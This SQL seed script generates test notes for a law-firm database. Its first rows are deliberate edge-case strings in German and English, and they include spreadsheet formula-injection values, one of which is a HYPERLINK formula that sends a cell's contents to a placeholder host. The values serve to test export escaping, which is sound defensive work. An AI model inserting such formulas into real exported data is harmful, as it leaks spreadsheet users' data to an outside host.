-- Notes. The first dozen are there to be awkward; see the README.

INSERT INTO paliad.notes
    (id, matter_id, author_id, body, private, pinned, mentions, external_ref, created_at, edited_at)
SELECT pg_temp.id('note', n),
       pg_temp.id('matter', 1 + pg_temp.pick('note, matter', n, 400)),
       pg_temp.lawyer('note, author', n),
       CASE n
           WHEN 1  THEN '=1+1'
           WHEN 2  THEN '=HYPERLINK("http://example.invalid/?x="&A1,"Bitte klicken")'
           WHEN 3  THEN '+49 211 5550-100 zurückrufen'
           WHEN 4  THEN '-5 % Nachlass zugesagt'
           WHEN 5  THEN '@Müller: bitte Rücksprache'
           WHEN 6  THEN 'Mandant zufrieden 🎉👩🏽‍⚖️ – Kopie an 田中さん'
           WHEN 7  THEN repeat('Sehr langer Vermerk, Absatz für Absatz diktiert; nicht kürzen. ', 700)
           WHEN 8  THEN E'Zeile 1\nZeile 2\r\nZeile 3\rZeile 4\tTabulator'
           WHEN 9  THEN ''
           WHEN 10 THEN '  außen Leerzeichen  '
           WHEN 11 THEN '<b>kein HTML</b> & kein &amp; XML ]]> _x000D_ C:\temp\neu'
           WHEN 12 THEN E'Steuerzeichen \x01 und \x1f aus einem alten Diktat; Zeichen e\u0301 zusammengesetzt, geschütztes\u00a0Leerzeichen'
           WHEN 13 THEN '00123'
           WHEN 14 THEN 'NULL'
           WHEN 15 THEN '2025-10-01'
           ELSE pg_temp.word('note, opening', n,
               '{Telefonat mit Mandant:,Vermerk:,Call with opposing counsel:,"Besprechung, intern:"}') || E'\n- '
                || pg_temp.word('note, first', n,
                    '{"Vergleich bei \"2,5 Mio. €\" denkbar; Rücksprache mit Vorstand",'
                    'Zeuge Weiß erinnert sich nicht,"Merkmal 1.3 streitig, Äquivalenz prüfen",'
                    'They will not extend the standstill; file now,Gutachter: Prof. Ångström (TU Dresden)}') || E'\n- '
                || pg_temp.word('note, second', n,
                    '{Frist notiert,Kopie an Petra,"Kosten: 1.234,56 € + USt",nothing further}')
       END,
       n > 15 AND n % 10 = 0,
       n % 50 = 0,
       CASE WHEN n % 6 = 0 THEN ARRAY[pg_temp.user_id(3 + n % 20), pg_temp.user_id(18)] ELSE '{}' END,
       CASE n % 4 WHEN 0 THEN '' WHEN 1 THEN 'DMS-' || lpad(n::text, 8, '0') END,
       pg_temp.moment('note', n, d.day),
       CASE WHEN n % 5 = 0 THEN pg_temp.moment('note', n, d.day + 1) END
FROM generate_series(1, 1200 * :scale) AS n,
     LATERAL (SELECT pg_temp.day_of(n, 1200 * :scale, 1500) AS day) AS d;
